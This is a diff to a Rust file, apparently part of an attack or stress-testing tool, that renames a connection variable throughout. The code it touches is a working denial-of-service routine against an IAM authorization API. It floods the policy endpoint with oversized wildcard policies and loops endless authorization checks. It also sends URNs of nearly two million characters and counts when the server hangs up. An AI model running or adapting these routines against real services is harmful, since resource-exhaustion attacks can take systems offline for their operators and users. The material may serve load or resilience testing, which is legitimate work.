@@ -30,10 +30,10 @@ pub(crate) fn costly(attacker: &Arc<Attacker>, tasks: &mut Tasks) {
 
 async fn write_policies(attacker: Arc<Attacker>) -> Anyhow<()> {
     let bearer = administration::bearer(&attacker).await?;
-    let mut line = AttackConnection::new(&attacker);
+    let mut connection = AttackConnection::new(&attacker);
     for number in 0..POLICIES {
         let policy = policies::large(&attacker.account, &format!("costly-{number}"), "");
-        line.send(request("/v2/iam/policy", &bearer, &policy).as_bytes()).await?;
+        connection.send(request("/v2/iam/policy", &bearer, &policy).as_bytes()).await?;
     }
     std::future::pending().await
 }
@@ -44,8 +44,8 @@ async fn check_and_hang_up(attacker: Arc<Attacker>) -> Anyhow<()> {
     let body = json!({"actions": actions, "resourceURNs": vec![own; 5]});
     let check = request(PATH, &administration::bearer(&attacker).await?, &body.to_string());
     loop {
-        let mut line = AttackConnection::new(&attacker);
-        match timeout(Duration::from_secs(1), line.send(check.as_bytes())).await {
+        let mut connection = AttackConnection::new(&attacker);
+        match timeout(Duration::from_secs(1), connection.send(check.as_bytes())).await {
             Ok(answered) => drop(answered?),
             Err(_) => attacker.count("hung up"),
         }
@@ -65,7 +65,7 @@ pub(crate) fn costly_singles(attacker: &Arc<Attacker>, tasks: &mut Tasks) {
         let bearer = administration::bearer(&attacker).await?;
         let hour = json!({"operator": "MATCH", "values": {"date(Europe/Paris).Hour.GE": "0"}});
         let (owner, id) = (&attacker.account.name, &attacker.account.client_id);
-        let mut line = Line::new(&attacker);
+        let mut connection = AttackConnection::new(&attacker);
         for number in 0..COSTLY_POLICIES {
             let policy = json!({
                 "name": format!("{LARGE_POLICY}hours-{number}"),
@@ -74,7 +74,7 @@ pub(crate) fn costly_singles(attacker: &Arc<Attacker>, tasks: &mut Tasks) {
                 "permissions": {"allow": [{"action": "*"}]},
                 "conditions": {"operator": "AND", "conditions": vec![&hour; COSTLY_CONDITIONS]},
             });
-            line.send(request("/v2/iam/policy", &bearer, &policy.to_string()).as_bytes()).await?;
+            connection.send(request("/v2/iam/policy", &bearer, &policy.to_string()).as_bytes()).await?;
         }
         let check: Arc<str> = request(
             "/v2/iam/resource/urn:v1:eu:resource:vps:r1/authorization/check",
@@ -91,9 +91,9 @@ pub(crate) fn costly_singles(attacker: &Arc<Attacker>, tasks: &mut Tasks) {
 }
 
 async fn repeat(attacker: Arc<Attacker>, request: Arc<str>) -> Anyhow<()> {
-    let mut line = Line::new(&attacker);
+    let mut connection = AttackConnection::new(&attacker);
     loop {
-        if line.send(request.as_bytes()).await?.is_some() {
+        if connection.send(request.as_bytes()).await?.is_some() {
             attacker.count("costly checks");
         }
     }
@@ -115,12 +115,12 @@ async fn check_huge_urns(attacker: Arc<Attacker>, number: usize) -> Anyhow<()> {
     };
     let huge = check(&[urn(&"u".repeat(1_900_000))]);
     let padding = "u".repeat(960);
-    let mut line = AttackConnection::new(&attacker);
+    let mut connection = AttackConnection::new(&attacker);
     for turn in 0_u64.. {
-        line.send(huge.as_bytes()).await?;
+        connection.send(huge.as_bytes()).await?;
         // As long as they may be, as many as a body holds, and never the same.
         let different = (0..1_900).map(|one| urn(&format!("{padding}{number}-{turn}-{one}")));
-        line.send(check(&different.collect::<Vec<_>>()).as_bytes()).await?;
+        connection.send(check(&different.collect::<Vec<_>>()).as_bytes()).await?;
     }
     Ok(())
 }
@@ -139,8 +139,8 @@ async fn check_much(attacker: Arc<Attacker>) -> Anyhow<()> {
         .map(|number| format!("urn:v1:eu:resource:account:{}-{number}", attacker.account.name));
     let body = json!({"actions": actions, "resourceURNs": urns.collect::<Vec<_>>()});
     let check = request(PATH, &bearer, &body.to_string());
-    let mut line = AttackConnection::new(&attacker);
+    let mut connection = AttackConnection::new(&attacker);
     loop {
-        line.send(check.as_bytes()).await?;
+        connection.send(check.as_bytes()).await?;
     }
 }
